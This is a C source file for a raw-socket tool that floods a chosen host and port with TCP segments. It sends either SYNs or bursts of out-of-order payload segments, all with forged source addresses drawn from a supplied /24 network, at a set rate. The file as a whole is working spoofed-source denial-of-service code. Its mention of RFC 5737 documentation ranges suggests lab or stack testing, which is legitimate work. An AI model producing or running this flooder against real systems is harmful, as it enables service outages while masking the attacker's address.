/*
 * Segments in the name of hosts that do not exist: segment-flood KIND NETWORK DESTINATION PORT COUNT RATE, as many a second.
 * The hosts are those of NETWORK/24 (RFC 5737).
 *
 *   syn     a SYN each, of another address and port
 *   ahead   eight to a connection: a SYN, and behind a gap seven segments in another order
 *
 * Says how many were sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { PAYLOAD = 512, SHARE = 8, HOSTS = 254, PORTS = 60000, HEADERS = 40 };

static unsigned sum(const void *octets, int length, unsigned start)
{
	const unsigned char *at = octets;
	for (; length > 1; length -= 2, at += 2) start += (unsigned)(at[0] << 8 | at[1]);
	return length ? start + (unsigned)(at[0] << 8) : start;
}

static unsigned short fold(unsigned total)
{
	while (total >> 16) total = (total & 0xffff) + (total >> 16);
	return (unsigned short)~total;
}

int main(int count, char **arguments)
{
	if (count != 7) return 2;
	int ahead = strcmp(arguments[1], "ahead") == 0, sent = 0, wanted = atoi(arguments[5]), rate = atoi(arguments[6]);
	unsigned network = ntohl(inet_addr(arguments[2]));
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = inet_addr(arguments[3]) };
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0) { perror("socket"); return 1; }
	for (int at = 0; at < wanted; at++) {
		int flow = ahead ? at / SHARE : at, place = ahead ? at % SHARE : 0, length = place ? PAYLOAD : 0;
		struct { struct iphdr ip; struct tcphdr tcp; unsigned char data[PAYLOAD]; } packet;
		memset(&packet, 0, sizeof packet);
		packet.ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,
			.tot_len = htons((unsigned short)(HEADERS + length)), .daddr = to.sin_addr.s_addr,
			.saddr = htonl(network | (unsigned)(1 + flow % HOSTS)) };
		packet.tcp = (struct tcphdr){ .source = htons((unsigned short)(1024 + flow / HOSTS % PORTS)),
			.dest = htons((unsigned short)atoi(arguments[4])), .doff = 5, .window = htons(64000) };
		/* Behind a gap: from the last to the first. */
		packet.tcp.seq = htonl((unsigned)flow * 977u + (place ? (unsigned)(1000 + (SHARE - place) * PAYLOAD) : 0u));
		packet.tcp.syn = place == 0;
		packet.tcp.ack = place != 0;
		unsigned total = sum(&packet.ip.saddr, 8, IPPROTO_TCP + 20u + (unsigned)length);
		packet.tcp.check = htons(fold(sum(&packet.tcp, 20 + length, total)));
		if (sendto(raw, &packet, (size_t)(HEADERS + length), 0, (struct sockaddr *)&to, sizeof to) > 0) sent++;
		if (at % 64 == 63) nanosleep(&(struct timespec){ 0, 64 * (1000000000L / rate) }, NULL);
	}
	printf("sent %d\n", sent);
	return 0;
}
